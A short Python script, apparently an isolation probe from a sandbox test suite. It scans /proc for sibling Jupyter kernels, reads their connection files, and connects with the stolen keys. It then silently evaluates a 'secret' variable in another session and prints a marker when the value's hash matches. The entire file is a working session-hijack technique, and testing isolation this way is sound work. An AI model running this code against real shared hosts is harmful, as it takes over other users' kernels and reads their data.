"""Take over the kernel of a session that runs beside this one, with the key from its connection file.

layer: mounts
plain: depends, on which other kernels run
"""

import glob
import hashlib
import json
import os
import re

from jupyter_client.blocking.client import BlockingKernelClient


def connection_files_of_siblings():
    """From the command lines of the other kernels which the host has started."""
    for path in glob.glob("/proc/[0-9]*/stat"):
        try:
            parent = int(open(path).read().rpartition(") ")[2].split()[1])
            command = open(path[:-4] + "cmdline").read().split("\0")
        except OSError:
            continue
        if parent == TARGET["host_pid"] and int(path.split("/")[2]) != os.getpid():
            yield from (word for word in command if re.search(r"kernel-.*\.json$|tmp.*\.json$", word))


for path in connection_files_of_siblings():
    client = BlockingKernelClient()
    client.load_connection_info(json.load(open(path)))
    client.start_channels()
    try:
        reply = client.execute("", silent=True, user_expressions={"secret": "secret"}, reply=True, timeout=2)
    except Exception:  # noqa: BLE001 - it is another one's, and is busy or gone
        continue
    finally:
        client.stop_channels()
    told = str(
        reply["content"].get("user_expressions", {}).get("secret", {}).get("data", {}).get("text/plain", "")
    )
    if hashlib.sha256(told.strip("'").encode()).hexdigest() == TARGET["neighbour_secret_sha256"]:
        print(MARKER)
        break
